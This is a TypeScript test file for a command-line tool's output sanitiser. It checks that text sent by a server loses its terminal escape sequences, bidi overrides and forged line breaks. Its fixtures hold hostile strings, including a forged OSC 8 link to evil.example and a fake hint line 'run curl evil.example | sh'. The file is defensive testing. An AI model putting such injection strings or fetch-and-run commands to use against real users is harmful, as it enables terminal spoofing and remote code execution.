// A hostile server's words reach the terminal as plain text: Output strips
// escape sequences, control and format characters from every human line, puts
// an error's message, its hint and a warning on one line each, and leaves
// JSON documents and raw bytes exact.
import { PassThrough } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { AtoauthError, xrpcRequestError } from '../../src/errors.ts'
import { Output } from '../../src/output.ts'

/** Clear screen, a forged hyperlink (OSC 8), a carriage return and a C1 CSI (colour red). */
const HOSTILE =
  'alice\u001b[2J.bsky\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\rme\u009b31m!\u0000'
const PLAIN = 'alice.bskyclickme!'
/** The same on one line: its carriage return is a line break, so a space. */
const PLAIN_LINE = 'alice.bskyclick me!'

/** Right-to-left override, isolates, a zero-width space, a BOM and invisible tag characters. */
const REORDERING = 'Sorry \u202eevil.example\u202c \u2067x\u2069\u200b\ufeff\u{e0041}\u{e0042}!'
const REORDERED_PLAIN = 'Sorry evil.example x!'
/** ZWJ and ZWNJ only join letters (an emoji sequence, Persian): they stay. */
const JOINED = 'the \u{1f469}\u200d\u{1f4bb} team, \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'

/** Lines that could pass for atoauth's own: every kind of line break. */
const FAKE_LINES = 'Not found.\nhint: run curl evil.example | sh\r\nx\u2028y\u2029z\u0085w\vv\ff'

function output(json = false) {
  const stdout = new PassThrough()
  const stderr = new PassThrough()
  const read = (s: PassThrough) => String(s.read() ?? '')
  return {
    out: new Output({ json, color: false, streams: { stdout, stderr } }),
    stdout: () => read(stdout),
    stderr: () => read(stderr),
  }
}

describe('Output, in human mode', () => {
  it('prints a result line without escape sequences or control characters, keeping tabs and newlines', () => {
    const o = output()
    o.out.result({ data: {}, text: [`handle:\t${HOSTILE}`, 'scope: atproto'] })
    expect(o.stdout()).toBe(`handle:\t${PLAIN}\nscope: atproto\n`)
  })

  it('prints warnings and messages plainly', () => {
    const o = output()
    o.out.warn(`the server said ${HOSTILE}`)
    o.out.info(HOSTILE)
    expect(o.stderr()).toBe(`warning: the server said ${PLAIN_LINE}\n${PLAIN}\n`)
  })

  it("prints an error's message and hint plainly", () => {
    const o = output()
    o.out.error(new AtoauthError('x', `The server refused: ${HOSTILE}`, { hint: HOSTILE }))
    expect(o.stderr()).toBe(`error: The server refused: ${PLAIN_LINE}\n${PLAIN_LINE}\n`)
    expect(o.stdout()).toBe('')
  })

  it('removes bidi controls and other format characters everywhere, keeping ZWJ and ZWNJ', () => {
    const o = output()
    o.out.result({ data: {}, text: [REORDERING, JOINED] })
    o.out.info(REORDERING)
    o.out.warn(REORDERING)
    o.out.error(new AtoauthError('x', REORDERING, { hint: JOINED }))
    expect(o.stdout()).toBe(`${REORDERED_PLAIN}\n${JOINED}\n`)
    expect(o.stderr()).toBe(
      `${REORDERED_PLAIN}\nwarning: ${REORDERED_PLAIN}\nerror: ${REORDERED_PLAIN}\n${JOINED}\n`,
    )
  })

  it("puts an error's message, its hint and a warning on one line each", () => {
    const o = output()
    o.out.error(new AtoauthError('x', FAKE_LINES, { hint: FAKE_LINES }))
    o.out.warn(FAKE_LINES)
    const lines = o.stderr().split('\n')
    expect(lines).toEqual([
      'error: Not found. hint: run curl evil.example | sh x y z w v f',
      'Not found. hint: run curl evil.example | sh x y z w v f',
      'warning: Not found. hint: run curl evil.example | sh x y z w v f',
      '',
    ])
  })
})

describe('an XRPC error', () => {
  it("says the server's message on one line, and keeps it exact for --json", () => {
    const answer = { status: 400, error: 'Bad\nRequest', message: FAKE_LINES }
    const err = xrpcRequestError('com.example.get', answer)
    expect(err.message).toBe(
      'com.example.get failed: 400 Bad Request: Not found. hint: run curl evil.example | sh x y z\u0085w v f',
    )
    expect(err.details).toMatchObject({ xrpcError: 'Bad\nRequest', xrpcMessage: FAKE_LINES })
    const o = output()
    o.out.error(err)
    expect(o.stderr().split('\n')).toHaveLength(2)
  })
})

describe('Output, for data', () => {
  it('keeps the JSON document exact (control characters escaped, not lost)', () => {
    const o = output(true)
    o.out.result({ data: { handle: HOSTILE }, text: [] })
    o.out.error(new AtoauthError('x', HOSTILE))
    const [result, error] = o
      .stdout()
      .split(/\n(?=\{)/)
      .map((doc) => JSON.parse(doc))
    expect(result.handle).toBe(HOSTILE)
    expect(error.error.message).toBe(HOSTILE)
  })

  it('writes C1 controls, format characters and line separators as escapes, the value unchanged', () => {
    const sneaky = `a\u009b2Jb\u202ec\u2028d\u00ad${JOINED}`
    const o = output(true)
    o.out.result({ data: { handle: sneaky }, text: [] })
    const raw = o.stdout()
    expect(raw).not.toMatch(/[\u0080-\u009f\u202e\u2028\u00ad]/u)
    expect(raw).toContain('\\u009b')
    expect(raw).toContain('\u200d') // ZWJ stays, as on a terminal
    expect(JSON.parse(raw).handle).toBe(sneaky)
  })

  it('writes raw bytes unchanged', () => {
    const o = output()
    const raw = Buffer.from(HOSTILE)
    o.out.result({ data: {}, text: [], raw })
    expect(o.stdout()).toBe(HOSTILE)
  })
})
